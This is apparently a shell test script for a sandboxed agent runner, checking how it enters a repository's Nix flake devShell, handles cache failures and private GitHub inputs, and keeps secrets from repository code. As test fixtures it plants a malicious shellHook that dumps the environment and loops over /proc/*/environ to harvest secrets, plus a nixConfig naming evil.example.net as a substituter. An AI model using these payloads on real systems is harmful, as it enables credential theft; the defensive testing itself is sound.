#!/bin/sh
# The repository's flake: its devShell is entered where there is nix, and is nobody's way to a secret.
. "$(dirname "$0")/lib.sh"
in_ns "$@"
. "$ROOT/t/entry/lib.sh"

command -v nix >/dev/null || skip_all 'nix is not installed'
internet_start
loot_start
make_repo demo/flake flake
git="git -C $NET/git/demo/flake.git"
secrets='{"secrets": {"ANTHROPIC_API_KEY": "sk-test-0123456789abcdef"}}'

# commit NAME SCRIPT: another flake in demo/flake, by a script in a clone of it.
change()
{
	rm -rf "$TMP/change"
	git clone -q "$NET/git/demo/flake.git" "$TMP/change"
	(cd "$TMP/change" && eval "$1" && git add . &&
		git -c user.name=t -c user.email=t@example.org commit -qm change && git push -q origin HEAD:main)
}
shell()
{
	entry --repo demo/flake --read test-read-token --spec "$secrets" --bwrap=--bind \
		--bwrap="$TMP/loot" --bwrap=/loot "$@"
}

exits 0 shell 'echo "$GREETING" >greeting'
like "$TMP/err" "devshell: the flake's devShell is entered" 'the devShell is entered'
is "$($git show "agent/sh/$RUN:greeting")" 'hello from the devShell' 'the tool has its environment'
ok 'a cache was asked, although there is no network but loopback' test "$(recorded requests 'r["host"] == "cache.nixos.org"' | wc -l)" -gt 0
RUN=cache-1
faults '{"http": [{"host": "cache.nixos.org", "path": "nix-cache-info", "status": 200, "body": "StoreDir: /nix/store\n"},
	{"host": "cache.nixos.org", "path": "narinfo", "status": 500}]}'
exits 78 shell 'echo x >x'
like "$TMP/err" 'devshell: .*cache.nixos.org.*500' 'a cache that fails is an error, and nothing is built instead'
faults
RUN=without-1
exits 0 shell --env AGENT_NO_DEVSHELL=1 'echo "${GREETING-none}" >greeting'
is "$($git show "agent/sh/$RUN:greeting")" none 'or not, when asked for'
like "$TMP/err" 'without the devShell, as asked for' 'which is said'
mkdir bin
RUN=without-2
exits 0 shell --env PATH=/usr/local/bin 'true' --bwrap=--ro-bind --bwrap=/usr/bin --bwrap=/usr/local/bin \
	--bwrap=--ro-bind --bwrap=/dev/null --bwrap=/usr/local/bin/nix
like "$TMP/err" 'nix is not there' 'without nix it goes on without, and says so'

# A6, G6: the shellHook and what it leaves behind see no secret, and it runs in phase agent only.
change 'sed -i "s|GREETING = .*|GREETING = \"hooked\"; shellHook = \"env >/loot/hook; touch /loot/hook-ran; (setsid /loot/canary; setsid sh -c '"'while :; do cat /proc/[0-9]*/environ >>/loot/lingers; done'"') >/dev/null 2>\&1 \&\"; extra = 1;|" flake.nix'
RUN=hook-1
exits 0 shell 'sleep 0.5; echo x >x; echo "$ANTHROPIC_API_KEY" | wc -c >n'
ok 'A6: control: the shellHook ran' test -e loot/hook-ran
unlike loot/hook 'sk-test|test-read-token' 'A6: no secret is in its environment'
notok 'A6: nor in what it left behind' grep -qa 'sk-test' loot/lingers loot/untrusted.*
is "$($git show "agent/sh/$RUN:x")" x 'the run ships'

RUN=broken-1
change 'git revert --no-commit HEAD; echo "}" >>flake.nix'
exits 78 shell 'echo x >x'
like "$TMP/err" 'syntax error' "a flake that does not evaluate: nix's own words"
like "$TMP/err" 'no-devshell goes on without' 'and what to do'
exits 0 shell --env AGENT_NO_DEVSHELL=1 'echo x >x'
RUN=exits-1
change 'git reset -q --hard HEAD~2; sed -i "s|GREETING = .*|shellHook = \"exit 0\";|" flake.nix; git push -qf origin HEAD:main'
exits 78 shell 'echo x >x'
like "$TMP/err" 'does its shellHook exit' 'a shellHook that exits'
RUN=noshell-1
change 'printf "{ outputs = { self }: { lib.x = 1; }; }\n" >flake.nix'
exits 0 shell 'echo x >x'
like "$TMP/err" 'the flake has no devShell' 'a flake without a devShell'
RUN=config-1
change 'git reset -q --hard HEAD~2; sed -i "1a nixConfig = { extra-substituters = \"https://evil.example.net\"; post-build-hook = \"/loot/canary\"; };" flake.nix; git push -qf origin HEAD:main'
rm -f loot/untrusted.*
exits 0 shell 'echo x >x' </dev/null
is "$(recorded requests 'r["host"] == "evil.example.net"' | wc -l)" 0 'A6: nixConfig of the repository is not accepted'

# Inputs that GitHub does not give without a token, and does not give that often.
RUN=private-1
faults '{"http": [{"host": "api.github.com", "path": "secret", "status": 404, "body": {"message": "Not Found"}}]}'
change 'sed -i "2i inputs.x = { url = \"github:octo/secret\"; flake = false; };" flake.nix; sed -i "s/{ self }:/{ self, x }:/" flake.nix'
exits 78 shell 'echo x >x'
like "$TMP/err" "a 'github:' input does not exist or is private, and nix is given no token, or go on" 'a private input: said as such'
RUN=limited-1
faults '{"http": [{"host": "api.github.com", "path": "secret", "status": 403, "body": {"message": "API rate limit exceeded for 192.0.2.1."}}]}'
exits 78 shell 'echo x >x'
like "$TMP/err" "GitHub limits 'github:' inputs .* to 60 an hour: try later, or go on" 'the limit of 60 an hour: said as such'
faults

# A nix that takes itself for offline: its settings count, not its words.
mkdir fake
cat >fake/nix <<'END'
#!/bin/sh
echo "$*" >>/loot/asked
printf '%s\n' "$NIX_CONFIG" >/loot/nix.conf
echo "warning: you don't have Internet access; disabling some network-dependent features" >&2
case $1 in
show-config) cat /opt/fake/settings ;;
develop) while [ "$1" != -c ]; do shift; done; shift; exec "$@" ;;
esac
END
chmod +x fake/nix
offline()
{
	rm -f loot/asked
	shell --bwrap=--ro-bind --bwrap="$TMP/fake" --bwrap=/opt/fake --env PATH=/opt/fake:/usr/bin:/bin "$@"
}
RUN=offline-1
printf 'sandbox = false\nsubstitute = true\n' >fake/settings
exits 0 offline 'echo x >x'
like loot/nix.conf '^substitute = true$' 'nix is told by name to ask the caches'
like loot/nix.conf '^fallback = false$' 'and not to build what a cache fails to give'
like loot/nix.conf '^tarball-ttl = 3600$' 'and for how long what it fetched is good'
like loot/asked '^develop ' 'control: the shell is entered'
RUN=offline-2
for settings in 'substitute = false' 'always-substitute = true' ''; do
	echo "$settings" >fake/settings
	exits 78 offline 'echo x >x'
	like "$TMP/err" 'takes itself for offline and asks no cache.*--no-devshell' "settings $settings: nothing is built from source"
	unlike loot/asked '^develop' 'nix is not asked for the shell'
done
done_testing
